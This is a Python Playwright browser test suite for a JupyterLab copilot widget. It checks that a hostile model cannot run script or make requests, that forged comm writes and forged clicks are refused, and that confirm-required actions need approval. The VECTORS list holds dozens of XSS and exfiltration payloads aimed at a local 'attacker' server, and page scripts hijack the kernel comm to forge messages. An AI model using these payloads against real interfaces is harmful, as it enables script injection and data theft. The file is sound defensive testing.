"""The kernel decides, never the page or the model: security in a real browser (JupyterLab).

* A hostile model (or anything it quotes: tool results, errors, labels, titles) cannot run
  script in the page, open a dialog, or make the browser send a request by itself: dozens of
  injection vectors, each pointing at a local "attacker" server, go through every place text
  from the model or the user reaches the chat, and the attacker gets no request at all.
* A hostile page script that writes the widget's synced state on its comm (as ipywidgets does)
  changes nothing: the kernel refuses the write and re-sends its own values.
* Forged requests on that comm (clicks on buttons the kernel never offered, approvals of calls
  that do not exist, another scope's threads) are refused, and the kernel keeps working.
* A button the model proposes for a `confirm=True` action says what it runs and goes through
  the approval card; a button for a frontend-only action is never shown.
"""

from __future__ import annotations

import json
import re
import secrets
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Dialog, Page, expect

from .harness import Jupyter, add_cell_and_run, ask, open_and_run

pytestmark = pytest.mark.browser

ANSWERS = "[data-testid='message'][data-role='assistant']"
OUTPUT = ".jp-OutputArea-output"
# 1x1 transparent PNG: an inline image the sanitiser may keep (it loads nothing remote).
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="


# -- the attacker ----------------------------------------------------------------------------
class Attacker:
    """A web server standing for the attacker: it records every request the browser sends it.
    Any request is a leak: the payloads only ever point here."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits, lock = self.hits, threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                with lock:
                    hits.append(f"{self.command} {self.path}")
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                body = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
                self.send_response(200)
                self.send_header("content-type", "image/gif")
                self.send_header("content-length", str(len(body)))
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

            def log_message(self, format: str, *args: Any) -> None:
                pass  # quiet

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def url(self, path: str) -> str:
        return f"http://{self.host}/{path}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.stop()


# Each vector is a template: {u} is its own attacker URL, {js} script that marks the page
# (`window.pwned`) and calls the attacker, {tag} names the vector, {png} an inline image.
VECTORS = [
    # Scripts and event handlers.
    "<script>{js}</script>",
    '<script src="{u}"></script>',
    '<img src=x onerror="{js}">',
    '<IMG SRC=x ONERROR="{js}">',
    "<img src=x onerror=alert('{tag}')>",
    '<svg onload="{js}"></svg>',
    "<svg onload=alert('{tag}')></svg>",
    "<svg><script>{js}</script></svg>",
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s"></animate></svg>',
    '<svg><a xlink:href="javascript:{js}"><text x="0" y="10">svg link</text></a></svg>',
    '<details open ontoggle="{js}"><summary>details</summary>opened</details>',
    '<body onload="{js}">body</body>',
    '<input autofocus onfocus="{js}">',
    '<select autofocus onfocus="{js}"><option>option</option></select>',
    '<textarea autofocus onfocus="{js}">area</textarea>',
    '<marquee onstart="{js}">marquee</marquee>',
    '<div onmouseover="{js}">hover here</div>',
    '<button autofocus onfocus="{js}" onclick="{js}">button</button>',
    '<noscript><p title="</noscript><img src=x onerror={js}>"></p></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table>"
    "</mtext></math>",
    "<template><img src=x onerror={js}></template>",
    '<math href="javascript:{js}">math link</math>',
    # javascript: and data: links.
    '<a href="javascript:{js}">js link</a>',
    '<a href=" jav&#x09;ascript:{js}">tab js link</a>',
    "[markdown js link](javascript:{js})",
    '<a href="data:text/html,<script>{js}</script>">data link</a>',
    # Other documents, plugins, forms.
    '<iframe src="{u}"></iframe>',
    "<iframe srcdoc=\"<img src='{u}'><script>parent.pwned='{tag}'</script>\"></iframe>",
    '<iframe src="javascript:{js}"></iframe>',
    '<frameset onload="{js}"><frame src="{u}"></frameset>',
    '<object data="{u}"></object>',
    '<object type="image/svg+xml" data="{u}"></object>',
    '<object data="javascript:{js}"></object>',
    '<embed src="{u}">',
    '<form action="{u}"><button>form</button></form>',
    '<form><button formaction="javascript:{js}">formaction</button></form>',
    # Zero-click requests: images and media.
    '<img src="{u}">',
    '<img src="{u}" loading="lazy" width="1" height="1">',
    '<img srcset="{u} 1x">',
    '<img src="data:image/png;base64,{png}" srcset="{u} 1x">',
    '<img src="data:image/png;base64,{png}" srcset="{u} 64w" sizes="64px">',
    '<image src="{u}">',
    "![markdown image]({u})",
    "![reference image][ref-{tag}]\n\n[ref-{tag}]: {u}",
    '| table |\n| --- |\n| <img src="{u}"> |',
    '<svg><image href="{u}"></image></svg>',
    '<svg><use href="{u}#x"></use></svg>',
    '<svg><filter id="f-{tag}"><feImage href="{u}"/></filter></svg>',
    '<svg><foreignObject><img src="{u}"></foreignObject></svg>',
    '<video poster="{u}"></video>',
    '<video src="{u}" autoplay muted></video>',
    '<video><source src="{u}"></video>',
    '<video><track default kind="subtitles" src="{u}"></video>',
    '<audio src="{u}" autoplay></audio>',
    '<audio><source src="{u}"></audio>',
    '<picture><source srcset="{u}"><img src="data:image/png;base64,{png}"></picture>',
    '<table background="{u}"><tr><td>table</td></tr></table>',
    '<table><tr><td background="{u}">td</td></tr></table>',
    '<table><tr><th background="{u}">th</th></tr></table>',
    '<input type="image" src="{u}">',
    # Links that fetch, meta refresh, base.
    '<link rel="prefetch" href="{u}">',
    '<link rel="stylesheet" href="{u}">',
    '<link rel="preload" as="image" href="{u}">',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<base href="{u}/">',
    '<a ping="{u}" href="https://example.invalid/">ping link</a>',
    # CSS.
    '<div style="background:url({u})">css background</div>',
    "<span style=\"background-image:url('{u}')\">css image</span>",
    '<ul style="list-style-image:url({u})"><li>css list</li></ul>',
    '<style>@import url("{u}");</style>',
    '<style>.cw-message { background: url("{u}") }</style>',
    '<svg><style>@import url("{u}");</style></svg>',
]


def payloads(attacker: Attacker, place: str) -> list[str]:
    """The vectors for one place in the chat, each with a URL naming the place and vector, so
    a hit says which one got through."""
    out = []
    for n, template in enumerate(VECTORS):
        tag = f"{place}-{n}"
        url = attacker.url(f"leak-{tag}")
        script = f"window.pwned='{tag}';fetch('{url}')"
        out.append(
            template.replace("{js}", script)
            .replace("{u}", url)
            .replace("{tag}", tag)
            .replace("{png}", PNG)
        )
    return out


def pieces(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


# -- notebooks -------------------------------------------------------------------------------
def kernel_value(page: Page, expression: str) -> Any:
    """What a Python expression is in the notebook's kernel, read from a new cell's output: the
    kernel's word, not the page's."""
    marker = f"value-{secrets.token_hex(4)}:"
    cell = add_cell_and_run(page, f"import json\nprint({marker!r}, json.dumps({expression}))")
    output = cell.locator(OUTPUT).first
    expect(output).to_be_visible(timeout=20_000)
    text = output.inner_text()
    assert text.startswith(marker), f"{expression} failed in the kernel:\n{text}"
    return json.loads(text[len(marker) :])


# A hostile page script: it finds the widget's comm in JupyterLab's kernel connection (as any
# script in the page can), records what the kernel sends on it, and sends on it.
SPY_ON_COMM = """(id) => {
  const kernel = window.jupyterapp.shell.currentWidget.sessionContext.session.kernel;
  const comm = kernel._comms?.get(id);
  if (!comm) return `no comm ${id} among ${[...(kernel._comms?.keys() ?? [])]}`;
  window.fromKernel = [];
  const original = comm.onMsg;
  comm.onMsg = (msg) => {
    window.fromKernel.push(msg.content.data);
    return original?.(msg);
  };
  return "ok";
}"""

SEND_ON_COMM = """([id, data]) => {
  const kernel = window.jupyterapp.shell.currentWidget.sessionContext.session.kernel;
  kernel._comms.get(id).send(data);
}"""


def spy_on_comm(page: Page, model_id: str) -> None:
    assert page.evaluate(SPY_ON_COMM, model_id) == "ok"


def send_on_comm(page: Page, model_id: str, data: dict[str, Any]) -> None:
    page.evaluate(SEND_ON_COMM, [model_id, data])


def from_kernel(page: Page) -> list[dict[str, Any]]:
    messages: list[dict[str, Any]] = page.evaluate("() => window.fromKernel")
    return messages


# -- 1. a hostile model ------------------------------------------------------------------------
HOSTILE_SETUP = """\
import json
import pathlib

from copilot_widget import Copilot
from copilot_widget.testing import call, error, offline_demo_client, text, tool_calls

P = json.loads(pathlib.Path("hostile-payloads.json").read_text())


def last_tool(request):
    for message in reversed(request["messages"]):
        if message["role"] == "assistant" and message.get("tool_calls"):
            return message["tool_calls"][0]["function"]["name"]
    return None


def script(request):
    last = request["messages"][-1]
    if last["role"] == "user":
        if "Break the provider" in str(last["content"]):
            return error(400, P["banner"])
        return tool_calls(call("leak_result", {}), call("leak_error", {}))
    if last_tool(request) != "offer_buttons":
        return tool_calls(call("offer_buttons", {"buttons": P["buttons"]}))
    return text(*P["answer"], delay=0.002)
"""

HOSTILE_COPILOT = '''\
copilot = Copilot(
    client=offline_demo_client(script), action_buttons=True, suggestions=P["suggestions"]
)


@copilot.action
def leak_result() -> str:
    """Return the report."""
    return P["result"]


@copilot.action
def leak_error() -> str:
    """Fail with the report."""
    raise RuntimeError(P["error"])


copilot
'''

# What the chat may not hold: elements that run or embed something, event handlers,
# javascript: links, and resource-loading attributes pointing at the attacker (a link,
# `<a href>`, may: opening it is the user's choice).
FIND_RISKY_DOM = """(host) => {
  const root = document.querySelector("[data-testid='copilot-root']");
  const loading = ["src", "srcset", "poster", "background", "data", "action", "formaction",
    "ping", "style", "href", "xlink:href", "content", "codebase", "lowsrc", "dynsrc",
    "imagesrcset", "cite", "longdesc", "usemap"];
  const embedding = ["script", "iframe", "frame", "object", "embed", "form", "link", "meta",
    "base", "style"];
  const found = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (embedding.includes(tag)) found.push(`<${tag}>`);
    for (const { name, value } of el.attributes) {
      const lower = name.toLowerCase();
      const href = lower === "href" || lower === "xlink:href";
      const script = href && /^(javascript|vbscript):/i.test(value.replace(/[\\s]/g, ""));
      const loads = loading.includes(lower) && value.includes(host);
      if (lower.startsWith("on") || script || (loads && !(tag === "a" && lower === "href")))
        found.push(`<${tag} ${name}="${value.slice(0, 100)}">`);
    }
  }
  return found;
}"""


# Mouse and focus events on every element of the chat, as a user moving around would cause.
HOVER_EVERYTHING = """(root) => {
  for (const el of root.querySelectorAll("*")) {
    for (const type of ["mouseover", "mouseenter", "mousemove", "focus", "focusin"]) {
      el.dispatchEvent(new (type.startsWith("focus") ? FocusEvent : MouseEvent)(type, {
        bubbles: !type.endsWith("enter") && type !== "focus",
      }));
    }
  }
}"""


def test_a_hostile_model_runs_no_script_and_makes_no_request(
    page: Page, jupyter: Jupyter, attacker: Attacker
) -> None:
    host = attacker.host
    # The thread is titled after the first question: a short vector fits in the title.
    title_vector = f"<img src=//{host}/leak-title onerror=pwned=1>"
    assert len(title_vector) <= 60
    prompt = f"{title_vector}\n\n" + "\n\n".join(payloads(attacker, "prompt"))
    answer = (
        "Harmless opening words, **in bold**.\n\n"
        + "\n\n".join(payloads(attacker, "answer"))
        + "\n\nHarmless closing words."
    )
    banner = "Harmless banner words."
    for vector in payloads(attacker, "banner"):
        if len(banner) + len(vector) < 440:  # the banner shows the provider's first 500
            banner += " " + vector
    assert banner.count(host) >= 4
    buttons = [{"label": "Harmless button", "action": None, "arguments": None, "reply": "ok"}]
    buttons += [
        {"label": label, "action": None, "arguments": None, "reply": "ok"}
        for label in payloads(attacker, "label")
    ]
    (jupyter.root / "hostile-payloads.json").write_text(
        json.dumps(
            {
                "answer": pieces(answer, 37),  # streamed in small pieces: partial tags too
                "result": "Harmless result words. " + " ".join(payloads(attacker, "result")),
                "error": "Harmless error words. " + " ".join(payloads(attacker, "error")),
                "buttons": buttons,
                "suggestions": payloads(attacker, "suggestion"),
                "banner": banner,
            }
        )
    )
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    popups: list[str] = []
    page.on("popup", lambda popup: popups.append(popup.url))
    name = jupyter.write_notebook("hostile.ipynb", HOSTILE_SETUP, HOSTILE_COPILOT)
    open_and_run(page, jupyter.lab_url(name))
    url = page.url

    ask(page, prompt)
    last = page.locator(ANSWERS).last
    expect(last).to_contain_text("Harmless closing words.", timeout=60_000)
    expect(last).to_have_attribute("data-status", "completed")
    expect(last).to_contain_text("Harmless opening words, in bold.")
    expect(last.locator("strong").first).to_have_text("in bold")  # rendered as markdown
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)
    # Text from the model is shown as text where it is not markdown.
    expect(page.get_by_test_id("action-button")).to_have_count(len(buttons))
    labels = page.get_by_test_id("action-button-label")
    expect(labels.first).to_have_text("Harmless button")
    expect(labels.nth(1)).to_have_text(str(buttons[1]["label"]))
    expect(page.get_by_test_id("suggestion").first).to_have_text(
        payloads(attacker, "suggestion")[0]
    )
    user = page.locator("[data-testid='message'][data-role='user']").first
    expect(user).to_contain_text(title_vector)
    title = page.get_by_test_id("thread-picker").locator("option:checked")
    expect(title).to_contain_text(title_vector)
    result = page.locator("[data-testid='tool-call'][data-name='leak_result']")
    expect(result).to_have_attribute("data-status", "completed")
    expect(result).to_contain_text("Harmless result words.")
    failed = page.locator("[data-testid='tool-call'][data-name='leak_error']")
    expect(failed).to_have_attribute("data-status", "failed")
    expect(failed).to_contain_text("Harmless error words.")

    ask(page, "Break the provider, please.")
    error_banner = page.get_by_test_id("error-banner")
    expect(error_banner).to_be_visible(timeout=20_000)
    expect(error_banner).to_contain_text("Harmless banner words.")
    expect(error_banner).to_contain_text(f"//{host}/leak-banner-0")  # the vectors, as text
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)

    # Show everything: open the tool cards, bring every message into view (lazy loading),
    # pass the mouse over every element, then give any request time to go out.
    for summary in page.locator("[data-testid='tool-call'] summary").all():
        summary.click()
    for message in page.locator("[data-testid='message']:not([hidden])").all():
        message.scroll_into_view_if_needed()
    page.get_by_test_id("copilot-root").evaluate(HOVER_EVERYTHING)
    page.get_by_test_id("message-list").evaluate("(list) => list.scrollTo(0, 0)")
    page.wait_for_timeout(2_500)

    assert attacker.hits == [], f"the attacker got {len(attacker.hits)} request(s): {attacker.hits}"
    assert page.evaluate("() => window.pwned") is None
    assert dialogs == []
    assert popups == []
    assert page.url == url
    assert page.evaluate(FIND_RISKY_DOM, host) == []

    # The check can fail: the page can reach the attacker, so silence above means no leak.
    control = attacker.url("control")
    page.evaluate(
        "(url) => new Promise((done) => {"
        " const img = new Image(); img.onload = img.onerror = done; img.src = url; })",
        control,
    )
    assert attacker.hits == ["GET /control"]


# -- 2 and 3. a hostile page on the widget's comm ---------------------------------------------
PAGE_SETUP = """\
from copilot_widget import Copilot
from copilot_widget.testing import offline_demo_client, text

STORE = "{store}"
ran = []


def script(request):
    return text("The kernel answers: ", str(request["messages"][-1]["content"]))


# Another scope in the same store, with a thread the page must never reach.
other = Copilot(
    client=offline_demo_client(["The other scope's answer."]), app_id="other", store=STORE
)
await other.send("The other scope's own thread")
OTHER_THREAD = other.thread["id"]
other.close()
"""

PAGE_COPILOT = '''\
copilot = Copilot(client=offline_demo_client(script), action_buttons=True, store=STORE)


@copilot.action(confirm=True)
def delete_rows(table: str) -> str:
    """Delete every row of a table.

    Args:
        table: The table to empty.
    """
    ran.append(table)
    return f"deleted every row of {table}"


copilot
'''

# Reads the other scope's thread from the store as a copilot of that scope sees it (raises if
# the thread is gone).
OTHER_SCOPE = """(lambda probe: [
    probe.thread["id"], probe.thread["title"], len(probe.messages), probe.close()
][:3])(Copilot(client=offline_demo_client([]), app_id="other", store=STORE,
               thread_id=OTHER_THREAD))"""


def open_page_notebook(page: Page, jupyter: Jupyter, name: str) -> dict[str, Any]:
    """Open a notebook with a copilot and another scope's thread in its store, ask once, and
    return the kernel's state."""
    setup = PAGE_SETUP.replace("{store}", f"{name}.threads")
    open_and_run(page, jupyter.lab_url(jupyter.write_notebook(name, setup, PAGE_COPILOT)))
    ask(page, "Hello kernel")
    expect(page.locator(ANSWERS).last).to_contain_text(
        "The kernel answers: Hello kernel", timeout=20_000
    )
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)
    state: dict[str, Any] = kernel_value(
        page,
        "{'model_id': copilot.model_id, 'thread': copilot.thread, 'messages': copilot.messages,"
        " 'ran': ran, 'confirm': copilot.actions['delete_rows'].confirm,"
        " 'specs': copilot.action_specs, 'other': OTHER_THREAD}",
    )
    assert len(state["messages"]) == 2 and state["ran"] == [] and state["confirm"] is True
    spy_on_comm(page, state["model_id"])
    return state


def test_forged_state_writes_from_the_page_are_refused(page: Page, jupyter: Jupyter) -> None:
    state = open_page_notebook(page, jupyter, "forged-writes.ipynb")
    real = state["messages"]
    forged = {
        **real[-1],
        "id": "msg_forged",
        "content": [{"type": "text", "text": {"value": "FORGED ANSWER", "annotations": []}}],
        "buttons": [
            {
                "id": "button_forged",
                "label": "FORGED BUTTON",
                "action": "delete_rows",
                "arguments": {"table": "users"},
                "reply": None,
            }
        ],
    }
    specs = [{**spec, "confirm": False} for spec in state["specs"]]
    send_on_comm(
        page,
        state["model_id"],
        {
            "method": "update",
            "state": {
                "messages": [*real, forged],
                "thread": {**state["thread"], "title": "FORGED TITLE"},
                "status": "requires_action",
                "action_specs": specs,
            },
            "buffer_paths": [],
        },
    )
    # The kernel ran the cell after handling the write (one channel, in order).
    after = kernel_value(
        page,
        "{'thread': copilot.thread, 'ids': [m['id'] for m in copilot.messages], 'ran': ran,"
        " 'status': copilot.status, 'confirm': copilot.actions['delete_rows'].confirm}",
    )
    assert after == {
        "thread": state["thread"],
        "ids": [m["id"] for m in real],
        "ran": [],
        "status": "idle",
        "confirm": True,
    }
    # The kernel answers the write with its own values.
    page.wait_for_function(
        "() => window.fromKernel.some((d) => d.method === 'update' && d.state?.messages)",
        timeout=20_000,
    )
    updates = [d["state"] for d in from_kernel(page) if d.get("method") == "update"]
    echoed = next(state for state in updates if "messages" in state)
    assert [m["id"] for m in echoed["messages"]] == [m["id"] for m in real]
    assert echoed["thread"]["title"] == state["thread"]["title"]

    root = page.get_by_test_id("copilot-root")
    expect(page.get_by_test_id("message")).to_have_count(2)
    expect(root).not_to_contain_text("FORGED")
    expect(page.get_by_test_id("action-button")).to_have_count(0)
    expect(page.get_by_test_id("thread-picker").locator("option:checked")).to_have_text(
        "Hello kernel"
    )


def test_forged_clicks_and_requests_from_the_page_are_refused(page: Page, jupyter: Jupyter) -> None:
    state = open_page_notebook(page, jupyter, "forged-requests.ipynb")
    other_before = kernel_value(page, OTHER_SCOPE)
    assert other_before == [state["other"], "The other scope's own thread", 2]
    real_message = state["messages"][-1]["id"]
    forged = {
        "r1": {"kind": "click_button", "message_id": "msg_forged", "button_id": "button_forged"},
        "r2": {"kind": "click_button", "message_id": real_message, "button_id": "button_x"},
        "r3": {"kind": "approve", "tool_call_id": "call_forged"},
        "r4": {"kind": "approve", "tool_call_id": "call_forged", "arguments": {"table": "x"}},
        "r5": {"kind": "reject", "tool_call_id": "call_forged"},
        "r6": {"kind": "select_thread", "thread_id": state["other"]},
        "r7": {"kind": "rename_thread", "thread_id": state["other"], "title": "Renamed"},
        "r8": {"kind": "delete_thread", "thread_id": state["other"]},
    }
    for request_id, request in forged.items():
        content = {**request, "request_id": request_id}
        send_on_comm(page, state["model_id"], {"method": "custom", "content": content})
    page.wait_for_function(
        "(n) => window.fromKernel.filter((d) => d.content?.kind === 'reply').length >= n",
        arg=len(forged),
        timeout=20_000,
    )
    replies = {
        d["content"]["request_id"]: d["content"]
        for d in from_kernel(page)
        if d.get("method") == "custom" and d["content"].get("kind") == "reply"
    }
    assert set(replies) == set(forged)
    accepted = {rid: r for rid, r in replies.items() if r["ok"] or not r["error"]}
    assert accepted == {}, accepted

    after = kernel_value(
        page,
        "{'thread': copilot.thread['id'], 'ids': [m['id'] for m in copilot.messages],"
        " 'ran': ran, 'status': copilot.status}",
    )
    assert after == {
        "thread": state["thread"]["id"],
        "ids": [m["id"] for m in state["messages"]],
        "ran": [],
        "status": "idle",
    }
    assert kernel_value(page, OTHER_SCOPE) == other_before
    expect(page.get_by_test_id("copilot-root")).not_to_contain_text("other scope")
    expect(page.get_by_test_id("approval-card")).to_have_count(0)

    # The same channel still carries a genuine request, and the chat still works.
    send_on_comm(
        page,
        state["model_id"],
        {
            "method": "custom",
            "content": {"kind": "send", "text": "Via the comm", "request_id": "ok"},
        },
    )
    expect(page.locator(ANSWERS).last).to_contain_text(
        "The kernel answers: Via the comm", timeout=20_000
    )
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)
    ask(page, "Are you still there?")
    expect(page.locator(ANSWERS).last).to_contain_text(
        "The kernel answers: Are you still there?", timeout=20_000
    )
    assert kernel_value(page, "ran") == []


# -- 4. a model-proposed button for a confirm=True action ----------------------------------
BUTTONS_SETUP = """\
import html
import json

from IPython.display import HTML, display

from copilot_widget import Copilot
from copilot_widget.testing import call, offline_demo_client, text, tool_calls

deleted = []
painted = []
report = display(HTML("<p id='deleted'>nothing deleted yet</p>"), display_id=True)

BUTTONS = [
    {"label": "Show the report", "action": "delete_rows",
     "arguments": json.dumps({"table": "users"}), "reply": None},
    {"label": "Paint it red", "action": "paint",
     "arguments": json.dumps({"color": "red"}), "reply": None},
]


def script(request):
    if request["messages"][-1]["role"] == "user":
        return tool_calls(call("offer_buttons", {"buttons": BUTTONS}))
    return text("Pick what comes next.")
"""

BUTTONS_COPILOT = '''\
copilot = Copilot(client=offline_demo_client(script), action_buttons=True)


@copilot.action(confirm=True)
def delete_rows(table: str) -> str:
    """Delete every row of a table.

    Args:
        table: The table to empty.
    """
    deleted.append(table)
    report.update(HTML(f"<p id='deleted'>deleted {html.escape(table)}</p>"))
    return f"deleted every row of {table}"


@copilot.action(available="frontend")
def paint(color: str) -> str:
    """Paint the page."""
    painted.append(color)
    return color


copilot
'''


@pytest.mark.parametrize("decision", ["approve", "reject"])
def test_a_model_button_for_a_confirm_action_asks_for_approval(
    page: Page, jupyter: Jupyter, decision: str
) -> None:
    name = jupyter.write_notebook(f"button-{decision}.ipynb", BUTTONS_SETUP, BUTTONS_COPILOT)
    open_and_run(page, jupyter.lab_url(name))
    ask(page, "What next?")
    expect(page.locator(ANSWERS).last).to_contain_text("Pick what comes next.", timeout=20_000)
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)

    # The frontend-only action's button was refused; the other one says what it really runs.
    buttons = page.get_by_test_id("action-button")
    expect(buttons).to_have_count(1)
    button = buttons.first
    expect(button).to_contain_text("Show the report")
    expect(button).to_contain_text("delete_rows")
    expect(button).to_contain_text("users")

    button.click()
    card = page.get_by_test_id("approval-card")
    expect(card).to_be_visible(timeout=20_000)
    expect(card).to_contain_text("delete_rows")
    expect(page.get_by_test_id("approval-arguments")).to_have_value(re.compile(r'"users"'))
    expect(page.locator("#deleted")).to_have_text("nothing deleted yet")
    call = page.locator("[data-testid='tool-call'][data-name='delete_rows']")
    expect(call).to_have_attribute("data-status", "requires_action")

    if decision == "approve":
        page.get_by_test_id("approve-button").click()
        expect(call).to_have_attribute("data-status", "completed", timeout=20_000)
        expect(page.locator("#deleted")).to_have_text("deleted users", timeout=20_000)
        expected = ["users"]
    else:
        page.get_by_test_id("reject-button").click()
        page.get_by_test_id("reject-reason").fill("not the users")
        page.get_by_test_id("confirm-reject-button").click()
        expect(call).to_have_attribute("data-status", "rejected", timeout=20_000)
        expected = []
    expect(card).to_have_count(0)
    expect(page.get_by_test_id("send-button")).to_be_visible(timeout=20_000)
    assert kernel_value(page, "{'deleted': deleted, 'painted': painted}") == {
        "deleted": expected,
        "painted": [],
    }
    expect(page.locator("#deleted")).to_have_text(
        "deleted users" if expected else "nothing deleted yet"
    )
